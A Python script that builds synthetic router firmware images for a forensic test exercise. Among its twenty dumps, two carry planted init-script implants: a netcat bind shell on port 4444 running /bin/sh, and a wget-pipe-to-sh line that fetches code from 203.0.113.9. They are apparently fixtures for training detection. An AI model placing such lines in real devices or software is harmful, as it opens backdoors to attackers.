#!/usr/bin/env python3
"""A router's flash made of Debian packages, and a delivery of it: what the three first hours (tests/first-hour/README.md)
are tried with. Needs mkimage and mkenvimage (u-boot-tools), mksquashfs (squashfs-tools), mkfs.jffs2 (mtd-utils).

usage: flash.py BOOT-LOADER KERNEL DEVICE-TREE OUT

Writes OUT/release-1.0.bin, OUT/release-1.1.bin, OUT/units/ (three genuine units of 1.1) and OUT/dumps/ (20 units, of which
four are not as they should be, one that is short and one that is empty). The root holds 600 files of the packages that are
installed here.
"""
import os
import random
import shutil
import subprocess
import sys
from pathlib import Path

SIZE = 32 << 20
PARTS = {  # name: offset, length
    "boot": (0x0, 0x100000),
    "env": (0x100000, 0x10000),
    "env-redundant": (0x110000, 0x10000),
    "kernel": (0x120000, 0x900000),
    "rootfs": (0xA20000, 0x11E0000),
    "overlay": (0x1C00000, 0x3E0000),
    "calibration": (0x1FF0000, 0x10000),
}
PACKAGES = ["busybox", "coreutils", "bash", "grep", "sed", "gawk", "mawk", "findutils", "util-linux", "procps", "iproute2", "tar", "gzip", "perl-base"]
FILES = 600
ENVIRONMENT = """bootcmd=bootm 0x120000
bootdelay=0
bootargs=console=ttyS0 root=/dev/mtdblock4 rootfstype=squashfs
mtdparts=mtdparts=flash:1M(boot),64k(env),64k(env-redundant),9M(kernel),18304k(rootfs),3968k(overlay),64k@0x1ff0000(calibration)
ethaddr={mac}
serial#={serial}
"""
TREE = """/dts-v1/;
/ {{ description = "Router 7"; #address-cells = <1>;
  images {{
    kernel {{ data = /incbin/("{kernel}"); type = "kernel"; arch = "arm64"; os = "linux"; compression = "none"; load = <0x40080000>; entry = <0x40080000>; hash {{ algo = "sha256"; }}; }};
    fdt {{ data = /incbin/("{tree}"); type = "flat_dt"; arch = "arm64"; compression = "none"; hash {{ algo = "sha256"; }}; }};
  }};
  configurations {{ default = "conf"; conf {{ kernel = "kernel"; fdt = "fdt"; }}; }};
}};
"""


def run(*words):
    subprocess.run([str(word) for word in words], check=True, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)


def root(out, version, change=None):
    """A squashfs of some 600 files."""
    tree = out / "root"
    shutil.rmtree(tree, ignore_errors=True)
    listed = subprocess.run(["dpkg", "-L", *PACKAGES], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True).stdout.split("\n")
    files = sorted({name for name in listed if os.path.isfile(name) and not os.path.islink(name)})
    for name in files[:FILES - 4]:
        target = tree / name.lstrip("/")
        target.parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(name, target)
    for name, text in {
        "etc/os-release": f"NAME=router\nVERSION={version}\n",
        "etc/passwd": "root:x:0:0::/root:/bin/sh\n",
        "etc/hostname": "router\n",
        "etc/inittab": "::sysinit:/etc/init.d/rcS\n",
        **(change or {}),
    }.items():
        (tree / name).parent.mkdir(parents=True, exist_ok=True)
        (tree / name).write_text(text)
    made = out / "root.squashfs"
    made.unlink(missing_ok=True)
    run("mksquashfs", tree, made, "-comp", "xz", "-all-root", "-all-time", 0, "-mkfs-time", 0, "-noappend", "-no-xattrs")
    return made.read_bytes()


def environment(out, serial, flags):
    mac = "02:00:%02x:%02x:%02x:%02x" % tuple(serial.to_bytes(4, "big"))
    (out / "env.txt").write_text(ENVIRONMENT.format(mac=mac, serial=f"R7{serial:06}"))
    run("mkenvimage", "-r", "-p", "0x00", "-s", "0x10000", "-o", out / "env.bin", out / "env.txt")
    made = bytearray((out / "env.bin").read_bytes())
    made[4] = flags
    return bytes(made)


def overlay(out, files):
    tree = out / "upper"
    shutil.rmtree(tree, ignore_errors=True)
    for name, text in files.items():
        (tree / "upper" / name).parent.mkdir(parents=True, exist_ok=True)
        (tree / "upper" / name).write_text(text)
        (tree / "upper" / name).chmod(0o755 if name.startswith("etc/init.d") else 0o644)
    (tree / "work").mkdir(parents=True, exist_ok=True)
    run("mkfs.jffs2", "-r", tree, "-o", out / "overlay.bin", "-e", "0x10000", "-l", "-n", "-U")
    return (out / "overlay.bin").read_bytes()


def flash(parts):
    made = bytearray(b"\xff" * SIZE)
    for name, content in parts.items():
        offset, length = PARTS[name]
        assert len(content) <= length, f"{name}: {len(content)} bytes do not fit in {length}"
        made[offset : offset + len(content)] = content
    return bytes(made)


def main():
    boot, kernel, tree, out = map(Path, sys.argv[1:])
    for folder in ["units", "dumps"]:
        (out / folder).mkdir(parents=True, exist_ok=True)
    (out / "fit.its").write_text(TREE.format(kernel=kernel.resolve(), tree=tree.resolve()))
    run("mkimage", "-f", out / "fit.its", out / "fit.bin")
    fixed = {"boot": boot.read_bytes(), "kernel": (out / "fit.bin").read_bytes()}
    roots = {version: root(out, version) for version in ["1.0", "1.1"]}
    implanted = root(out, "1.1", {"etc/init.d/S99update": "#!/bin/sh\nnc -l -p 4444 -e /bin/sh &\n"})

    def unit(serial, system, more=None):
        files = {"etc/hostname": f"router-{serial}\n", "etc/config/system": f"config system\n\toption hostname 'router-{serial}'\n", **(more or {})}
        calibration = random.Random(serial).randbytes(2048)
        return flash({
            **fixed, "rootfs": system, "env": environment(out, serial, 1), "env-redundant": environment(out, serial, 0),
            "overlay": overlay(out, files), "calibration": calibration,
        })

    for version, system in roots.items():
        first = flash({**fixed, "rootfs": system, "env": environment(out, 0, 1), "env-redundant": environment(out, 0, 0)})
        (out / f"release-{version}.bin").write_bytes(first)
    for serial in [1, 2, 3]:
        (out / "units" / f"R7{serial:06}.bin").write_bytes(unit(serial, roots["1.1"]))
    for serial in range(101, 121):
        made = bytearray(unit(
            serial,
            implanted if serial == 107 else roots["1.0"] if serial == 111 else roots["1.1"],
            {"etc/init.d/S50net": "#!/bin/sh\nwget -O- http://203.0.113.9/x | sh\n"} if serial == 104 else None,
        ))
        if serial == 115:  # a block that was not read
            made[0x1000000:0x1010000] = b"\xff" * 0x10000
        (out / "dumps" / f"R7{serial:06}.bin").write_bytes(made)
    (out / "dumps" / "R7000121.bin").write_bytes(unit(121, roots["1.1"])[: 20 << 20])
    (out / "dumps" / "R7000122.bin").write_bytes(b"")
    for left in ["root", "upper"]:
        shutil.rmtree(out / left)
    for left in ["fit.its", "fit.bin", "root.squashfs", "env.txt", "env.bin", "overlay.bin"]:
        (out / left).unlink()


main()
